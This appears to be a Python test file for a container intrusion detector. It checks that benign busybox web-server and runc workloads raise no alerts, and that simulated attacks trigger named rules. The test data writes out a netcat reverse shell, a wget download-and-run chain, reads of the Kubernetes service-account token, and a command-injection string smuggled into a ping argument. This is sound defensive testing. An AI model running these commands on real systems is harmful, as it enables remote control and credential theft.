"""The shipped rules over whole stories: silent on the workload, loud on the intruder."""

from typing import Any

from agent.events import FileFlag


def test_a_busybox_web_server_with_cgi_raises_nothing(world: Any, bench: Any) -> None:
    box = "/bin/busybox"
    start = world.process(box, "/bin/sh", "/opt/shop/web", exe_flags=FileFlag.SCRIPT)
    server = world.process(box, "httpd", "-f", "-p", "8080", "-h", "/srv/web")
    child = world.process(box, "httpd", "-f", "-p", "8080", "-h", "/srv/web")
    cgi = world.process(box, "/bin/sh", "/srv/web/cgi-bin/shop", exe_flags=FileFlag.SCRIPT)
    wget = world.process(box, "wget", "-q", "-O", "/tmp/item-1", "http://10.88.0.6:8080/cgi-bin/stock?item=1")
    story = [
        world.execs(start, filename="/opt/shop/web"),
        world.execs(world.process(box, "mkdir", "-p", "/var/cache/shop"), start),
        world.execs(server),
        world.accepts(server, "10.88.0.1", 41000),
        world.execs(cgi, child, server, filename="/srv/web/cgi-bin/shop"),
        world.execs(wget, cgi, child, server),
        world.connects(wget, "10.88.0.6", 8080),
        world.writes(wget, "/tmp/item-1"),
        *(
            world.execs(world.process(box, *argv), cgi, child, server)
            for argv in (
                ("date", "-u", "+%s"),
                ("cat", "/tmp/item-1"),
                ("sed", "-n", "s/.*item=//p"),
                ("cut", "-d ", "-f2"),
            )
        ),
        world.writes(cgi, "/data/sessions/sess_1"),
        world.opens(cgi, "/srv/web/cgi-bin/shop"),
        world.opens(cgi, "/etc/passwd"),
    ]
    assert bench.ids(*story) == []


def test_starting_a_container_raises_nothing(host: Any, bench: Any) -> None:
    runc = host.process("/usr/sbin/runc", "runc", "create", "--bundle", "/run/x", "c1")
    init = host.process(
        "/memfd:runc_cloned:/proc/self/exe",
        "runc",
        "init",
        exe_flags=FileFlag.MEMFD | FileFlag.TMPFS | FileFlag.UNLINKED,
    )
    assert bench.ids(host.execs(runc), host.execs(init, runc), host.writes(init, "/proc/self/oom_score_adj")) == []


def test_a_hands_on_intrusion_is_told_step_by_step(world: Any, bench: Any) -> None:
    box, hideout = "/bin/busybox", "/tmp/.cache/busybox.x64"
    shell = world.process(box, "sh", tty=34816)
    entry = {"entry_id": shell.exec_id, "tty": 34816}
    shell = world.process(box, "sh", exec_id=shell.exec_id, **entry)

    def by_hand(*argv: str, path: str = box, **more: Any) -> Any:
        return world.process(path, *argv, **entry, **more)

    def run(process: Any) -> Any:
        return world.execs(process, shell)

    fetch = by_hand("wget", "-q", "-O", hideout, "http://10.88.0.1:8000/busybox.x64")
    beacon = by_hand(hideout, "nc", "10.88.0.1", "4444", "-e", "/bin/sh", path=hideout, exe_flags=FileFlag.UPPER_LAYER)
    cat = by_hand("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
    told = [
        bench.ids(event)
        for event in (
            run(shell),
            run(by_hand("id")),
            run(by_hand("cat", "/etc/passwd")),
            run(fetch),
            world.chmods(by_hand("chmod", "+x", hideout), hideout, 0o755),
            run(cat),
            world.opens(cat, "/run/secrets/kubernetes.io/serviceaccount/..2026/token"),
            run(by_hand("wget", "-qO-", "http://10.88.0.6:9090/cgi-bin/diagnostics")),
            run(
                by_hand(
                    "wget",
                    "-qO-",
                    "--header",
                    "Authorization: Bearer x",
                    "http://10.0.0.1/api/v1/namespaces/shop/secrets",
                )
            ),
            run(beacon),
            world.connects(beacon, "10.88.0.1", 4444),
        )
    ]
    assert told == [
        ["container-entered", "shell-by-hand"],
        ["discovery-by-hand"],
        ["discovery-by-hand"],
        ["transfer-by-hand"],
        ["temp-file-made-executable"],
        ["discovery-by-hand", "service-account-token-command"],
        ["service-account-token-read"],
        ["transfer-by-hand"],
        ["kubernetes-api-by-hand", "transfer-by-hand"],
        ["dropped-binary-run", "hidden-program-run", "reverse-shell", "transfer-by-hand"],
        ["dropped-binary-connect", "remote-control-port"],
    ]


def test_a_command_injected_through_a_page_is_told(world: Any, bench: Any) -> None:
    box = "/bin/busybox"
    server = world.process(box, "httpd", "-p", "9090")
    injected = "ping -c 1 -W 1 127.0.0.1;id;cat /etc/passwd;wget -q -O /tmp/.s http://10.88.0.1:8000/s;sh /tmp/.s"
    shell = world.process(box, "sh", "-c", injected)
    events = [
        world.execs(shell, server),
        world.execs(world.process(box, "id"), shell, server),
        world.execs(world.process(box, "cat", "/etc/passwd"), shell, server),
        world.execs(world.process(box, "sh", "/tmp/.s"), shell, server),
    ]
    assert [bench.ids(e) for e in events] == [
        ["download-and-run"],
        ["discovery-by-service"],
        ["discovery-by-service"],
        ["script-from-temp"],
    ]
